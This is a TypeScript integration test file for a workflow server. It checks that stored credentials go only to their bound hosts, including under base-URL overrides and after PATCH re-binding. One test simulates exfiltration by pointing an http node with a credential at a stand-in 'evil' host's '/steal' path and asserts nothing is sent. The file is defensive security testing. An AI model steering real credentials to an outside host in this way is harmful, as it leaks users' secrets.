// Where a credential may be sent is bound to it: changing hosts/service/placement/authType needs the value in the same
// PATCH (re-binding a secret is re-entering it), and no base-URL override (FLERO_SERVICE_BASE_URLS) sends a credential
// to a host outside its `hosts` — neither the connection test nor a run (http and connector nodes). Real server,
// real upstreams on 127.0.0.1: `override` is where the operator's override points, `home` where a credential belongs.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { api, type RunningServer, startServer } from '../helpers/server';
import { startUpstream, type Upstream } from '../helpers/upstream';

const CANARY = `canaryBind_${randomBytes(12).toString('base64url')}`;
const OTHER = `canaryBnd2_${randomBytes(12).toString('base64url')}`;
const NEW = `canaryBnd3_${randomBytes(12).toString('base64url')}`;
/** Sent to the override server on purpose (a credential bound to that very host). */
const FOLLOWS = `canaryBnd4_${randomBytes(12).toString('base64url')}`;

let srv: RunningServer;
let owner: string;
let override: Upstream;
let home: Upstream;
let evil: Upstream;

const call = (method: string, path: string, body?: unknown) =>
  api(srv.url, method, path, { key: owner, ...(body !== undefined ? { body } : {}) });

async function create(body: Record<string, unknown>) {
  const r = await call('POST', '/api/credentials', { name: 'c', ...body });
  assert.equal(r.status, 201, r.text);
  return r.body;
}

async function run(id: string, node: Record<string, unknown>) {
  const put = await call('PUT', `/api/workflows/${id}`, {
    id,
    name: id,
    nodes: [
      { id: 'start', type: 'trigger' },
      { id: 'call', ...node },
    ],
    connections: [{ from: 'start', to: 'call' }],
  });
  assert.ok(put.status === 200 || put.status === 201, put.text);
  const r = await call('POST', `/api/workflows/${id}/run`, {});
  assert.equal(r.status, 200, r.text);
  return r.body;
}

const leaked = (u: Upstream) => [CANARY, OTHER, NEW].some((c) => u.everything().includes(c));

before(async () => {
  override = await startUpstream();
  home = await startUpstream();
  evil = await startUpstream();
  srv = await startServer({
    env: { FLERO_SERVICE_BASE_URLS: `custom=${override.url},github=${override.url}`, FLERO_MASTER_KEY: '' },
  });
  owner = srv.ownerKey!;
});
after(async () => {
  await srv?.stop();
  await Promise.all([override?.close(), home?.close(), evil?.close()]);
});

describe('PATCH: changing where a credential may be sent needs the value', () => {
  test('the issue: hosts re-pointed without the value → 400 naming value, nothing changes, nothing sent', async () => {
    await create({ id: 'cred_home', service: 'custom', authType: 'bearer', hosts: [home.host], value: CANARY });
    const r = await call('PATCH', '/api/credentials/cred_home', { hosts: [evil.host] });
    assert.equal(r.status, 400, r.text);
    assert.equal(r.body.code, 'validation_failed');
    assert.deepEqual(
      r.body.errors.map((e: { field: string }) => e.field),
      ['value'],
    );
    assert.match(r.body.errors[0].message, /hosts/);
    const now = await call('GET', '/api/credentials/cred_home');
    assert.deepEqual(now.body.hosts, [home.host]);
    assert.equal(now.body.version, 1);
    const out = await run('wf_repoint', {
      type: 'http',
      method: 'GET',
      url: `${evil.url}/steal`,
      credential: 'cred_home',
    });
    assert.equal(out.status, 'failed');
    assert.match(out.error, /nothing was sent/);
    assert.equal(evil.requests.length, 0, 'the evil host received nothing');
  });

  test('every kind of re-binding needs the value; the same binding again, or a rename, does not', async () => {
    await create({
      id: 'cred_bind',
      service: 'custom',
      authType: 'apiKey',
      header: { name: 'X-API-Key', prefix: '' },
      hosts: ['api.example.com'],
      value: CANARY,
    });
    await create({ id: 'cred_gh_own', service: 'github', authType: 'bearer', hosts: ['api.github.com'], value: OTHER });
    const cases: [string, Record<string, unknown>][] = [
      ['cred_bind', { hosts: ['other.host'] }],
      ['cred_bind', { hosts: ['api.example.com', 'other.host'] }],
      ['cred_bind', { header: { name: 'X-Other', prefix: '' } }],
      ['cred_bind', { header: { name: 'X-API-Key', prefix: 'Token ' } }],
      ['cred_bind', { query: { param: 'key' } }],
      ['cred_bind', { service: 'github' }],
      ['cred_bind', { authType: 'bearer' }],
      ['cred_gh_own', { hosts: null }],
      ['cred_bind', { name: 'renamed too', hosts: ['other.host'] }],
    ];
    for (const [id, body] of cases) {
      const before = (await call('GET', `/api/credentials/${id}`)).body;
      const r = await call('PATCH', `/api/credentials/${id}`, body);
      assert.equal(r.status, 400, `${JSON.stringify(body)}: ${r.text}`);
      assert.equal(r.body.code, 'validation_failed');
      assert.ok(
        r.body.errors.some((e: { field: string }) => e.field === 'value'),
        `${JSON.stringify(body)} names value: ${r.text}`,
      );
      assert.deepEqual((await call('GET', `/api/credentials/${id}`)).body, before, 'nothing changed');
    }
    const rename = await call('PATCH', '/api/credentials/cred_bind', { name: 'renamed' });
    assert.equal(rename.status, 200, rename.text);
    assert.equal(rename.body.name, 'renamed');
    const same = await call('PATCH', '/api/credentials/cred_bind', {
      hosts: ['api.example.com'],
      header: { name: 'X-API-Key', prefix: '' },
    });
    assert.equal(same.status, 200, `re-stating the current binding is not a change: ${same.text}`);
    // other.host does not resolve, so the rotation's test call fails: force (the binding rule is what is tested).
    const rebind = await call('PATCH', '/api/credentials/cred_bind', {
      hosts: ['other.host'],
      value: NEW,
      force: true,
    });
    assert.equal(rebind.status, 200, rebind.text);
    assert.deepEqual(rebind.body.hosts, ['other.host']);
    assert.equal(rebind.body.version, 2);
  });
});

describe('base-URL overrides never send a credential outside its hosts', () => {
  test('the issue: the test call of a custom credential bound to localhost:9 never reaches the override', async () => {
    await create({ id: 'cred_nine', service: 'custom', authType: 'bearer', hosts: ['localhost:9'], value: CANARY });
    const before = override.requests.length;
    const r = await call('POST', '/api/credentials/cred_nine/test');
    assert.equal(r.status, 200, r.text);
    assert.equal(r.body.ok, false, r.text);
    assert.ok(!r.text.includes(CANARY));
    assert.equal(override.requests.length, before, 'the override server received no request');
    assert.ok(!leaked(override), 'the override server never saw the value');
  });

  test('a custom credential whose own host is the override follows it (how a plain-http loopback service is tested)', async () => {
    await create({
      id: 'cred_at_override',
      service: 'custom',
      authType: 'bearer',
      hosts: [override.host],
      value: FOLLOWS,
    });
    const before = override.requests.length;
    const r = await call('POST', '/api/credentials/cred_at_override/test');
    assert.equal(r.status, 200, r.text);
    assert.equal(override.requests.length, before + 1, r.text);
    assert.equal(override.requests.at(-1)!.headers.authorization, `Bearer ${FOLLOWS}`);
    assert.ok(!r.text.includes(FOLLOWS));
  });

  test('a catalog credential with its own hosts does not follow an override outside them: the test sends nothing', async () => {
    const before = override.requests.length;
    const r = await call('POST', '/api/credentials/cred_gh_own/test');
    assert.equal(r.status, 200, r.text);
    assert.equal(r.body.ok, false, r.text);
    assert.equal(r.body.status, 0);
    assert.match(r.body.detail, /outside|not among|only be sent/);
    assert.match(r.body.detail, /nothing was sent/);
    assert.equal(override.requests.length, before);
  });

  test('a credential on the service’s default hosts follows the operator’s override (tests rely on it)', async () => {
    await create({ id: 'cred_gh', service: 'github', authType: 'bearer', value: OTHER });
    const r = await call('POST', '/api/credentials/cred_gh/test');
    assert.equal(r.body.ok, true, r.text);
    assert.equal(override.requests.at(-1)!.headers.authorization, `Bearer ${OTHER}`);
    const out = await run('wf_gh_default', { type: 'github.getUser', credential: 'cred_gh' });
    assert.equal(out.status, 'succeeded', JSON.stringify(out));
    override.requests.length = 0; // from here on, the override must receive nothing
  });

  test('runs: http and connector nodes never send a bound credential to the override host', async () => {
    const http = await run('wf_http_override', {
      type: 'http',
      method: 'GET',
      url: `${override.url}/x`,
      credential: 'cred_nine',
    });
    assert.equal(http.status, 'failed');
    assert.match(http.error, /may only be sent to localhost:9, not to 127\.0\.0\.1:\d+; nothing was sent/);
    const connector = await run('wf_conn_override', { type: 'github.getUser', credential: 'cred_gh_own' });
    assert.equal(connector.status, 'failed');
    assert.match(connector.error, /may only be sent to api\.github\.com.*nothing was sent/);
    const customOnGithub = await run('wf_conn_custom', { type: 'github.getUser', credential: 'cred_nine' });
    assert.equal(customOnGithub.status, 'failed');
    assert.match(customOnGithub.error, /nothing was sent/);
    assert.equal(override.requests.length, 0, 'the override server received nothing');
    assert.ok(!leaked(override));
  });

  test('no canary in any server output', () => {
    for (const c of [CANARY, OTHER, NEW]) assert.ok(!srv.output().includes(c));
  });
});
